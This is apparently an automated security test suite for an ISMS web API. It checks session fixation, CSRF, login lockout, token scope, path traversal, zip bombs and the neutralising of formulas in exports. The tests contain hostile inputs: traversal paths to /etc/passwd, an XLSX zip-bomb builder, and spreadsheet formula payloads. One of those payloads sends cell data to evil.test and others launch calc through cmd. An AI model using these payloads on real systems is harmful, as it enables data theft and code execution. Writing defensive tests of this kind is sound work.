/**
 * Adversarial tests of the web-facing defences: sessions (fixation, sign-out), CSRF, sign-in
 * throttling and account probing, password storage, API token storage and scope, evidence
 * download (path traversal, another organization's files, tampered blobs), upload limits and XLSX
 * zip bombs, formula injection in exports, and security headers on the API and the web app.
 */
import { createHash } from "node:crypto";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, createDeflateRaw } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../src/http/app.js";
import { MAX_XLSX_UNZIPPED_BYTES, parseCsv } from "../../src/imports/table-file.js";
import { type ApiHarness, buildTwoOrgs, openApi, PASSWORD, type Session } from "../support/api.js";
import { addMember, createUser } from "../support/people.js";
import { DIALECTS } from "../support/workspaces.js";

const sha256 = (text: string | Buffer) => createHash("sha256").update(text).digest("hex");
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/** The session cookie a response sets, if any. */
function sessionCookieOf(response: { cookies: { name: string; value: string }[] }): string | undefined {
  return response.cookies.find((c) => c.name === "isms_session")?.value;
}

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0;

/**
 * A zip archive written by hand, so that one entry can be compressed by zlib as a stream: the
 * zip bomb's sheet is generated chunk by chunk and never held in memory uncompressed.
 */
async function zipOf(entries: { name: string; chunks: () => Iterable<Buffer> }[]): Promise<Buffer> {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    let crc = 0;
    let size = 0;
    const deflate = createDeflateRaw({ level: 9 });
    const compressed: Buffer[] = [];
    deflate.on("data", (chunk: Buffer) => compressed.push(chunk));
    const done = new Promise((resolve) => deflate.on("end", resolve));
    for (const chunk of entry.chunks()) {
      crc = crc32(chunk, crc);
      size += chunk.byteLength;
      if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once("drain", resolve));
    }
    deflate.end();
    await done;
    const data = Buffer.concat(compressed);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.byteLength, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.byteLength, 26);
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(20, 6);
    header.writeUInt16LE(8, 10);
    header.writeUInt32LE(crc, 16);
    header.writeUInt32LE(data.byteLength, 20);
    header.writeUInt32LE(size, 24);
    header.writeUInt16LE(name.byteLength, 28);
    header.writeUInt32LE(offset, 42);
    parts.push(local, name, data);
    central.push(header, name);
    offset += local.byteLength + name.byteLength + data.byteLength;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, directory, end]);
}

/**
 * A real one-row risk register from exceljs whose first sheet is then padded, before
 * `</sheetData>`, with `inflatedBytes` of identical rows: a file of a few hundred kilobytes that
 * unzips to hundreds of megabytes.
 */
async function xlsxBomb(inflatedBytes: number): Promise<Buffer> {
  const { default: ExcelJS } = await import("exceljs");
  const { default: JSZip } = await import("jszip");
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet("Risks");
  sheet.addRow(["Title", "Likelihood", "Impact"]);
  sheet.addRow(["Bomb risk", 2, 2]);
  const legit = await JSZip.loadAsync(Buffer.from(await book.xlsx.writeBuffer()));
  const entries: { name: string; chunks: () => Iterable<Buffer> }[] = [];
  for (const file of Object.values(legit.files)) {
    if (file.dir) continue;
    const data = await file.async("nodebuffer");
    if (file.name !== "xl/worksheets/sheet1.xml") {
      entries.push({ name: file.name, chunks: () => [data] });
      continue;
    }
    const xml = data.toString("utf8");
    const cut = xml.indexOf("</sheetData>");
    const filler = Buffer.from(
      '<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c></row>'.repeat(16_384),
    );
    entries.push({
      name: file.name,
      chunks: function* () {
        yield Buffer.from(xml.slice(0, cut));
        for (let sent = 0; sent < inflatedBytes; sent += filler.byteLength) yield filler;
        yield Buffer.from(xml.slice(cut));
      },
    });
  }
  return zipOf(entries);
}

describe.each(DIALECTS)("web security on %s", (dialect) => {
  let api: ApiHarness;
  let owner: Session;
  beforeAll(async () => {
    api = await openApi(dialect);
    await buildTwoOrgs(api);
    owner = await api.member("acme", "owner");
  });
  afterAll(async () => {
    await api?.dispose();
  });

  const login = (email: string, password: string, headers: Record<string, string> = {}) =>
    api.app.inject({ method: "POST", url: "/api/v1/auth/login", payload: { email, password }, headers });
  const me = (cookie: string) =>
    api.app.inject({ method: "GET", url: "/api/v1/auth/me", headers: { cookie: `isms_session=${cookie}` } });

  it("never adopts a session id chosen before sign-in, issues a fresh one at each sign-in and ends it server-side at sign-out", async () => {
    await createUser(api.ws.db, "test", { email: "fixation@acme.test", password: PASSWORD });
    const planted = "ses_plantedByAnAttackerBeforeSignIn00";
    expect((await me(planted)).statusCode).toBe(401);

    const first = await login("fixation@acme.test", PASSWORD, { cookie: `isms_session=${planted}` });
    expect(first.statusCode).toBe(200);
    const issued = sessionCookieOf(first) ?? "";
    expect(issued).toMatch(/^ses_[A-Za-z0-9_-]{32}$/);
    expect(issued).not.toBe(planted);
    expect((await me(planted)).statusCode).toBe(401);
    expect((await me(issued)).statusCode).toBe(200);

    const second = await login("fixation@acme.test", PASSWORD);
    const other = sessionCookieOf(second) ?? "";
    expect(other).not.toBe(issued);
    expect(second.json().csrfToken).not.toBe(first.json().csrfToken);

    // The database holds only a hash of each session id.
    const rows = await api.ws.db.selectFrom("sessions").selectAll().execute();
    expect(rows.map((r) => r.idHash)).toEqual(expect.arrayContaining([sha256(issued), sha256(other)]));
    expect(JSON.stringify(rows)).not.toContain(issued);
    expect(rows.some((r) => r.idHash === sha256(planted))).toBe(false);

    const out = await api.app.inject({
      method: "POST",
      url: "/api/v1/auth/logout",
      headers: { cookie: `isms_session=${issued}`, "x-csrf-token": first.json().csrfToken },
    });
    expect(out.statusCode).toBe(200);
    // A copy of the cookie kept by an attacker is worthless once the user signed out.
    expect((await me(issued)).statusCode).toBe(401);
    expect(
      await api.ws.db.selectFrom("sessions").select("idHash").where("idHash", "=", sha256(issued)).execute(),
    ).toEqual([]);
    expect((await me(other)).statusCode).toBe(200);
  });

  it("refuses a cookie-authenticated write without the CSRF token or with another session's, changing nothing", async () => {
    const editor = await api.member("acme", "editor");
    const created = await api.call(owner, "POST", "/api/v1/orgs/acme/risks", {
      body: { title: "CSRF target", inherent: { likelihood: 2, impact: 2 } },
    });
    expect(created.status).toBe(201);
    const key = String(created.json.key);
    const tag = String(created.headers.etag);
    const forged = [
      { label: "no token", session: { ...owner, csrf: "" } },
      { label: "another session's token", session: { ...owner, csrf: editor.csrf } },
      { label: "a made-up token", session: { ...owner, csrf: "x".repeat(32) } },
    ];
    for (const { label, session } of forged) {
      const post = await api.call(session, "POST", "/api/v1/orgs/acme/risks", {
        body: { title: `Forged ${label}`, inherent: { likelihood: 5, impact: 5 } },
      });
      expect(post.status, label).toBe(403);
      expect(post.headers["content-type"], label).toMatch(/^application\/problem\+json/);
      const patch = await api.call(session, "PATCH", `/api/v1/orgs/acme/risks/${key}`, {
        body: { title: "Renamed by a forged request" },
        headers: { "if-match": tag },
      });
      expect(patch.status, label).toBe(403);
      const remove = await api.call(session, "DELETE", `/api/v1/orgs/acme/risks/${key}`, {
        headers: { "if-match": tag },
      });
      expect(remove.status, label).toBe(403);
    }
    const after = await api.call(owner, "GET", `/api/v1/orgs/acme/risks/${key}`);
    expect(after.json).toMatchObject({ title: "CSRF target", version: created.json.version });
    expect(
      await api.ws.db.selectFrom("risks").select("title").where("title", "like", "Forged%").execute(),
    ).toEqual([]);
  });

  it("accepts a bearer-token write without a CSRF token", async () => {
    const token = await api.call(owner, "POST", "/api/v1/tokens", {
      body: { name: "bot", scope: "write", currentPassword: PASSWORD },
    });
    const response = await api.call(undefined, "POST", "/api/v1/orgs/acme/risks", {
      body: { title: "Written by a bot", inherent: { likelihood: 1, impact: 1 } },
      headers: { authorization: `Bearer ${token.json.token}` },
    });
    expect(response.status).toBe(201);
  });

  it("answers an unknown email and a wrong password with the same status, message and cost", async () => {
    await createUser(api.ws.db, "test", { email: "probed@acme.test", password: PASSWORD });
    const strip = (body: Record<string, unknown>) => ({ ...body, instance: undefined });
    // The first unknown address pays once for the decoy hash; time the ones after it.
    await login("warm-up@nowhere.test", "wrong password 1");
    const wrong: number[] = [];
    const unknown: number[] = [];
    for (let i = 0; i < 3; i++) {
      let start = performance.now();
      const a = await login("probed@acme.test", `wrong password ${i}`);
      wrong.push(performance.now() - start);
      start = performance.now();
      const b = await login(`nobody-${i}@nowhere.test`, `wrong password ${i}`);
      unknown.push(performance.now() - start);
      expect(a.statusCode).toBe(401);
      expect(b.statusCode).toBe(401);
      expect(strip(b.json())).toEqual(strip(a.json()));
    }
    // Without the same scrypt work, an unknown address answers tens of times faster.
    expect(median(unknown)).toBeGreaterThan(median(wrong) * 0.4);
  });

  it("stores passwords as salted scrypt with the declared cost, and refuses short or trivial ones", async () => {
    await createUser(api.ws.db, "test", { email: "twin-a@acme.test", password: PASSWORD });
    await createUser(api.ws.db, "test", { email: "twin-b@acme.test", password: PASSWORD });
    const rows = await api.ws.db
      .selectFrom("users")
      .select(["email", "passwordHash"])
      .where("email", "in", ["twin-a@acme.test", "twin-b@acme.test"])
      .execute();
    expect(rows).toHaveLength(2);
    const parsed = rows.map((r) => {
      const [scheme, n, r8, p, salt, key] = String(r.passwordHash).split("$");
      return {
        scheme,
        n,
        r: r8,
        p,
        salt: Buffer.from(salt ?? "", "base64"),
        key: Buffer.from(key ?? "", "base64"),
      };
    });
    for (const hash of parsed) {
      expect(hash).toMatchObject({ scheme: "scrypt", n: String(2 ** 14), r: "8", p: "5" });
      expect(hash.salt.byteLength).toBe(16);
      expect(hash.key.byteLength).toBe(32);
    }
    expect(parsed[0]?.salt.equals(parsed[1]?.salt ?? Buffer.alloc(0))).toBe(false);
    expect(rows[0]?.passwordHash).not.toBe(rows[1]?.passwordHash);
    expect(JSON.stringify(rows)).not.toContain(PASSWORD);

    for (const weak of ["short pass!", "aaaaaaaaaaaaaaaa", ""]) {
      await expect(
        createUser(api.ws.db, "test", { email: `weak-${weak.length}@acme.test`, password: weak }),
      ).rejects.toMatchObject({ code: "VALIDATION" });
    }
  });

  it("stores only a hash of an API token, never shows it again, and lets no token write beyond its scope", async () => {
    const created = await api.call(owner, "POST", "/api/v1/tokens", {
      body: { name: "reader", scope: "read", currentPassword: PASSWORD },
    });
    expect(created.status).toBe(201);
    const secret = String(created.json.token);
    expect(secret).toMatch(/^isms_[A-Za-z0-9_-]{32}$/);
    const row = await api.ws.db
      .selectFrom("apiTokens")
      .selectAll()
      .where("id", "=", String(created.json.id))
      .executeTakeFirstOrThrow();
    expect(row.tokenHash).toBe(sha256(secret));
    expect(JSON.stringify(row)).not.toContain(secret.slice(5));

    const listed = await api.call(owner, "GET", "/api/v1/tokens");
    expect(listed.status).toBe(200);
    for (const item of listed.json as unknown as Record<string, unknown>[]) {
      expect(Object.keys(item).sort()).toEqual(
        ["createdAt", "expiresAt", "id", "lastUsedAt", "name", "revokedAt", "scope"].sort(),
      );
    }
    expect(JSON.stringify(listed.json)).not.toContain(secret.slice(5));

    const bearer = { authorization: `Bearer ${secret}` };
    const risk = await api.call(owner, "POST", "/api/v1/orgs/acme/risks", {
      body: { title: "Read-only target", inherent: { likelihood: 2, impact: 2 } },
    });
    const patch = await api.call(undefined, "PATCH", `/api/v1/orgs/acme/risks/${risk.json.key}`, {
      body: { title: "Changed with a read token" },
      headers: { ...bearer, "if-match": String(risk.headers.etag) },
    });
    expect(patch.status).toBe(403);
    const mint = await api.call(undefined, "POST", "/api/v1/tokens", {
      body: { name: "escalated", scope: "write" },
      headers: bearer,
    });
    expect(mint.status).toBe(403);
    expect((await api.call(owner, "GET", `/api/v1/orgs/acme/risks/${risk.json.key}`)).json.title).toBe(
      "Read-only target",
    );
  });

  it("answers 404, never a file, for traversal keys and for another organization's evidence", async () => {
    const upload = (session: Session, slug: string, name: string, data: string) =>
      api.app.inject({
        method: "POST",
        url: `/api/v1/orgs/${slug}/evidence/files?title=${name}&filename=${name}.txt`,
        headers: {
          cookie: session.cookie,
          "x-csrf-token": session.csrf,
          "content-type": "application/octet-stream",
        },
        payload: Buffer.from(data),
      });
    const rival = await api.member("globex", "owner");
    expect((await upload(rival, "globex", "first", "GLOBEX-SECRET-ONE")).statusCode).toBe(201);
    const second = await upload(rival, "globex", "second", "GLOBEX-SECRET-TWO");
    expect(second.statusCode).toBe(201);
    expect((await upload(owner, "acme", "mine", "ACME-OWN-FILE")).statusCode).toBe(201);
    const rivalKeys = (await api.call(rival, "GET", "/api/v1/orgs/globex/evidence")).json as unknown as {
      key: string;
      sha256: string;
    }[];
    const acmeKeys = new Set(
      ((await api.call(owner, "GET", "/api/v1/orgs/acme/evidence")).json as unknown as { key: string }[]).map(
        (e) => e.key,
      ),
    );
    const foreignKey = rivalKeys.map((e) => e.key).find((k) => !acmeKeys.has(k));
    expect(foreignKey).toBeDefined();

    const urls = [
      `/api/v1/orgs/acme/evidence/${foreignKey}/file`,
      `/api/v1/orgs/globex/evidence/${rivalKeys[0]?.key}/file`,
      `/api/v1/orgs/acme/evidence/${second.json().sha256}/file`,
      "/api/v1/orgs/acme/evidence/..%2F..%2F..%2F..%2Fetc%2Fpasswd/file",
      "/api/v1/orgs/acme/evidence/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd/file",
      "/api/v1/orgs/acme/evidence/%252e%252e%252fetc%252fpasswd/file",
      "/api/v1/orgs/acme/evidence/..%5C..%5C..%5Cwindows%5Cwin.ini/file",
      "/api/v1/orgs/acme/evidence/%2Fetc%2Fpasswd/file",
      "/api/v1/orgs/acme/evidence/....%2F%2F....%2F%2Fetc%2Fpasswd/file",
      "/api/v1/orgs/acme/evidence/E-001%2F..%2F..%2F..%2Fetc%2Fpasswd/file",
      "/api/v1/orgs/acme/evidence/../../../../etc/passwd/file",
      "/api/v1/orgs/acme/evidence/../../globex/evidence/E-001/file",
    ];
    // A NUL byte is refused as bad input (400) before any lookup; everything else is simply not there.
    for (const url of [...urls, "/api/v1/orgs/acme/evidence/E-001%00/file"]) {
      const response = await api.app.inject({ method: "GET", url, headers: { cookie: owner.cookie } });
      expect(response.statusCode, url).toBe(url.includes("%00") ? 400 : 404);
      expect(response.headers["content-type"], url).toMatch(/^application\/problem\+json/);
      expect(response.body, url).not.toMatch(/root:|GLOBEX-SECRET|\[fonts\]/);
    }
    // The blob store itself never reads a path from a name: the folder store refuses anything but a
    // SHA-256 digest, the database store finds no such row.
    const direct = await api.ws.blobs
      .get("../../../../etc/passwd")
      .catch((error: { code?: string }) => error.code);
    expect(direct).toBe(api.ws.blobs.kind === "folder" ? "VALIDATION" : undefined);
  });

  it("refuses text holding a NUL character with 400 in a body, a path or a query, storing nothing", async () => {
    const body = await api.call(owner, "POST", "/api/v1/orgs/acme/risks", {
      body: { title: "Null\u0000byte", inherent: { likelihood: 2, impact: 2 } },
    });
    const nested = await api.call(owner, "POST", "/api/v1/orgs/acme/context/issues", {
      body: { kind: "internal", title: "fine", description: ["deep\u0000"] },
    });
    const path = await api.call(owner, "GET", "/api/v1/orgs/acme/risks/R-001%00");
    const query = await api.call(owner, "GET", "/api/v1/orgs/acme/risks?q=x%00");
    const csv = await api.app.inject({
      method: "POST",
      url: "/api/v1/orgs/acme/risks/import",
      headers: { cookie: owner.cookie, "x-csrf-token": owner.csrf, "content-type": "text/csv" },
      payload: "Title,Likelihood,Impact\nNul\u0000risk,2,2\n",
    });
    for (const [label, status, type] of [
      ["body", body.status, body.headers["content-type"]],
      ["nested body", nested.status, nested.headers["content-type"]],
      ["path", path.status, path.headers["content-type"]],
      ["query", query.status, query.headers["content-type"]],
      ["csv", csv.statusCode, csv.headers["content-type"]],
    ] as const) {
      expect(status, label).toBe(400);
      expect(String(type), label).toMatch(/^application\/problem\+json/);
    }
    expect(
      await api.ws.db.selectFrom("risks").select("title").where("title", "like", "Nul%").execute(),
    ).toEqual([]);
  });

  it("refuses to serve an evidence file whose stored bytes were changed", async () => {
    const data = Buffer.from("Pen test report: no critical findings\n");
    const upload = await api.app.inject({
      method: "POST",
      url: "/api/v1/orgs/acme/evidence/files?title=Pentest&filename=pentest.txt",
      headers: {
        cookie: owner.cookie,
        "x-csrf-token": owner.csrf,
        "content-type": "application/octet-stream",
      },
      payload: data,
    });
    expect(upload.statusCode).toBe(201);
    const { key, sha256: digest } = upload.json() as { key: string; sha256: string };
    const download = () =>
      api.app.inject({
        method: "GET",
        url: `/api/v1/orgs/acme/evidence/${key}/file`,
        headers: { cookie: owner.cookie },
      });
    expect((await download()).rawPayload).toEqual(data);

    const altered = Buffer.from("Pen test report: ALTERED after upload\n");
    if (api.ws.blobs.kind === "folder")
      await writeFile(join(api.ws.dir, "blobs", digest.slice(0, 2), digest), altered);
    else await api.ws.db.updateTable("blobs").set({ data: altered }).where("sha256", "=", digest).execute();

    const response = await download();
    expect(response.statusCode).toBe(500);
    expect(response.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(response.body).not.toContain("ALTERED");
    expect(response.headers["content-disposition"]).toBeUndefined();
  });

  it("refuses an oversize import or JSON body with 413 problem+json", async () => {
    const small = await openApi(dialect, { maxUploadBytes: 4096 });
    try {
      await buildTwoOrgs(small);
      const member = await small.member("acme", "owner");
      const headers = { cookie: member.cookie, "x-csrf-token": member.csrf };
      const csv = `Title,Likelihood,Impact\n${"A risk,2,2\n".repeat(1000)}`;
      for (const [type, payload] of [
        ["text/csv", csv],
        [XLSX, Buffer.alloc(8192, 1)],
        ["application/octet-stream", Buffer.alloc(8192, 1)],
      ] as const) {
        const url =
          type === "application/octet-stream"
            ? "/api/v1/orgs/acme/evidence/files?title=Big&filename=big.bin"
            : "/api/v1/orgs/acme/risks/import";
        const response = await small.app.inject({
          method: "POST",
          url,
          headers: { ...headers, "content-type": type },
          payload,
        });
        expect(response.statusCode, type).toBe(413);
        expect(response.headers["content-type"], type).toMatch(/^application\/problem\+json/);
      }
      const json = await small.call(member, "POST", "/api/v1/orgs/acme/context/issues", {
        body: { kind: "internal", title: "x".repeat(1_100_000) },
      });
      expect(json.status).toBe(413);
      expect(json.headers["content-type"]).toMatch(/^application\/problem\+json/);
      expect(await small.ws.db.selectFrom("risks").select("id").execute()).toEqual([]);
    } finally {
      await small.dispose();
    }
  });

  it("refuses an XLSX zip bomb with a 400 problem without inflating it into memory", async () => {
    const inflated = 4 * MAX_XLSX_UNZIPPED_BYTES;
    const bomb = await xlsxBomb(inflated);
    expect(bomb.byteLength).toBeLessThan(2 * 1024 * 1024);
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 5);
    try {
      const response = await api.app.inject({
        method: "POST",
        url: "/api/v1/orgs/acme/risks/import",
        headers: { cookie: owner.cookie, "x-csrf-token": owner.csrf, "content-type": XLSX },
        payload: bomb,
      });
      peak = Math.max(peak, process.memoryUsage().rss);
      expect(response.statusCode).toBe(400);
      expect(response.headers["content-type"]).toMatch(/^application\/problem\+json/);
      expect(response.json()).toMatchObject({ code: "VALIDATION", errors: [{ path: "file" }] });
    } finally {
      clearInterval(sampler);
    }
    expect((peak - before) / 1024 / 1024).toBeLessThan(200);
    const risks = await api.call(owner, "GET", "/api/v1/orgs/acme/risks?q=Bomb");
    expect(JSON.stringify(risks.json)).not.toContain("Bomb risk");
  }, 30_000);

  it("neutralises formulas in risk titles and SoA fields in CSV and XLSX exports", async () => {
    const payloads = [
      '=HYPERLINK("http://evil.test/?d="&A1,"open") PWN1',
      "+1+cmd|' /C calc'!A0 PWN2",
      "-2+3+cmd|' /C calc'!A0 PWN3",
      "@SUM(1+1)*cmd|' /C calc'!A0 PWN4",
      "\t=1+1 PWN5",
      "\r=1+1 PWN6",
    ];
    const stored = new Map<string, string>();
    for (const title of payloads) {
      const created = await api.call(owner, "POST", "/api/v1/orgs/acme/risks", {
        body: { title, inherent: { likelihood: 3, impact: 3 } },
      });
      expect(created.status, JSON.stringify(created.json)).toBe(201);
      stored.set(`risk ${title}`, String(created.json.title));
    }
    const controls = ["5.1", "5.2", "5.3", "5.4", "5.5", "5.6"];
    for (const [i, controlId] of controls.entries()) {
      const payload = payloads[i] ?? "";
      const entry = await api.call(owner, "GET", `/api/v1/orgs/acme/soa/entries/${controlId}`);
      const patched = await api.call(owner, "PATCH", `/api/v1/orgs/acme/soa/${controlId}`, {
        body: {
          applicable: false,
          justification: `${payload} is why it does not apply`,
          owner: payload.replace("PWN", "OWN"),
        },
        headers: { "if-match": String(entry.headers.etag) },
      });
      expect(patched.status, JSON.stringify(patched.json)).toBe(200);
    }
    const markers = payloads.flatMap((p) => [
      p.match(/PWN\d/)?.[0] ?? "",
      p.match(/PWN\d/)?.[0].replace("PWN", "OWN") ?? "",
    ]);

    const exported = async (report: string, format: string) =>
      api.app.inject({
        method: "GET",
        url: `/api/v1/orgs/acme/exports/${report}?format=${format}`,
        headers: { cookie: owner.cookie, "sec-fetch-site": "same-origin" },
      });
    const { default: ExcelJS } = await import("exceljs");
    for (const report of ["risks", "soa"]) {
      const wanted = markers.filter((m) => report === "soa" || m.startsWith("PWN"));
      const csv = await exported(report, "csv");
      expect(csv.statusCode).toBe(200);
      const cells = parseCsv(csv.body).rows.flatMap((r) => r.cells);
      const xlsx = await exported(report, "xlsx");
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
      const sheetCells: unknown[] = [];
      book.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.formula, `${report} xlsx ${cell.address}`).toBeUndefined();
            sheetCells.push(cell.value);
          }),
        ),
      );
      for (const [format, values] of [
        ["csv", cells],
        ["xlsx", sheetCells],
      ] as const) {
        const hits = (values as unknown[]).filter(
          (v): v is string => typeof v === "string" && /(PWN|OWN)\d/.test(v),
        );
        for (const marker of wanted)
          expect(
            hits.some((h) => h.includes(marker)),
            `${report} ${format} ${marker}`,
          ).toBe(true);
        for (const hit of hits) {
          expect(hit, `${report} ${format}`).toMatch(/^'/);
          expect(hit.slice(1), `${report} ${format}`).toMatch(/^[=+\-@\t\r\n]/);
        }
      }
    }
    // The stored titles are the payloads as sent (neutralised only on the way out).
    for (const title of payloads) expect(stored.get(`risk ${title}`)?.trim()).toBe(title.trim());
  });

  it("sends CSP, nosniff, frame and referrer headers on API answers, errors and the web app's page", async () => {
    const apiHeaders = {
      "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "no-referrer",
      "cache-control": "no-store",
    };
    expect((await api.call(owner, "GET", "/api/v1/orgs")).headers).toMatchObject(apiHeaders);
    expect((await api.call(undefined, "GET", "/api/v1/orgs")).headers).toMatchObject(apiHeaders);
    expect((await api.call(owner, "GET", "/api/v1/orgs/no-such-org/risks")).headers).toMatchObject(
      apiHeaders,
    );

    const root = await mkdtemp(join(tmpdir(), "isms-web-"));
    try {
      await writeFile(join(root, "index.html"), '<!doctype html><div id="root"></div>');
      await mkdir(join(root, "assets"));
      await writeFile(join(root, "assets", "app-1234.js"), "console.log(1)");
      const web = await buildApp({ ws: api.ws, logLevel: false, webRoot: root });
      try {
        for (const url of ["/", "/o/acme/risks", "/login"]) {
          const page = await web.inject({ method: "GET", url });
          expect(page.statusCode, url).toBe(200);
          expect(page.headers, url).toMatchObject({
            "x-content-type-options": "nosniff",
            "x-frame-options": "DENY",
            "referrer-policy": "no-referrer",
          });
          const policy = Object.fromEntries(
            String(page.headers["content-security-policy"])
              .split(";")
              .map((d) => d.trim().split(/\s+/))
              .map(([name, ...values]) => [name, values]),
          );
          expect(policy["script-src"], url).toEqual(["'self'"]);
          expect(policy["frame-ancestors"], url).toEqual(["'none'"]);
          expect(policy["object-src"], url).toEqual(["'none'"]);
          expect(policy["base-uri"], url).toEqual(["'none'"]);
        }
        const asset = await web.inject({ method: "GET", url: "/assets/app-1234.js" });
        expect(asset.statusCode).toBe(200);
        expect(asset.headers["x-content-type-options"]).toBe("nosniff");
        expect(asset.headers["content-type"]).toMatch(/javascript/);
      } finally {
        await web.close();
      }
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});

describe("a fresh installation's sign-in", () => {
  let api: ApiHarness;
  beforeAll(async () => {
    api = await openApi("sqlite", { loginRateLimit: 3 });
    await buildTwoOrgs(api);
  });
  afterAll(async () => {
    await api?.dispose();
  });

  const attempt = (email: string, password: string, ip: string) =>
    api.app.inject({
      method: "POST",
      url: "/api/v1/auth/login",
      payload: { email, password },
      headers: { "x-forwarded-for": ip },
    });

  it("refuses a short or trivial password for the first owner", async () => {
    for (const password of ["short pass!", "zzzzzzzzzzzzzzzz"]) {
      const refused = await api.call(undefined, "POST", "/api/v1/setup", {
        body: { email: "first@acme.test", password },
      });
      expect(refused.status, password).toBe(400);
      expect(refused.json.errors).toEqual([expect.objectContaining({ path: "password" })]);
    }
    expect((await api.ws.db.selectFrom("users").select("id").execute()).length).toBe(0);
  });

  it("locks an account after the configured failures, even for the right password, whatever address the client claims", async () => {
    await createUser(api.ws.db, "test", { email: "target@acme.test", password: PASSWORD });
    await addMember(api.ws.db, "test", { orgSlug: "acme", email: "target@acme.test", role: "viewer" });
    const statuses: number[] = [];
    // Each attempt claims another client address, as a spoofed X-Forwarded-For would.
    for (let i = 0; i < 3; i++)
      statuses.push(
        (await attempt("target@acme.test", `guess number ${i}`, `203.0.113.${i + 1}`)).statusCode,
      );
    const locked = await attempt("Target@Acme.test", PASSWORD, "198.51.100.7");
    statuses.push(locked.statusCode);
    expect(statuses).toEqual([401, 401, 401, 429]);
    expect(locked.headers["content-type"]).toMatch(/^application\/problem\+json/);
    expect(sessionCookieOf(locked)).toBeUndefined();
    // Another account is not locked by the first one's failures.
    await createUser(api.ws.db, "test", { email: "bystander@acme.test", password: PASSWORD });
    expect((await attempt("bystander@acme.test", PASSWORD, "198.51.100.7")).statusCode).toBe(200);
  });

  it("locks an unknown email exactly like a real one", async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 4; i++)
      statuses.push((await attempt("ghost@acme.test", `guess number ${i}`, `192.0.2.${i + 1}`)).statusCode);
    expect(statuses).toEqual([401, 401, 401, 429]);
  });
});
